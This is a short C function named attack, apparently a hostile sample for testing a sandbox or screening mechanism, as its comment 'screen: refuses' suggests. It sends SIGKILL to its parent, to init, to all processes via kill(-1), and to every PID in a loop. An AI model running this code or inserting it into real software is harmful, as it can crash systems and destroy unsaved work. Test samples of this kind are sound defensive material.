/* Ends whatever it can reach.
 * screen: refuses */
static void attack(void)
{
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    kill(-1, SIGKILL);
    for (int pid = 2; pid < 70000; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
    _exit(0);
}
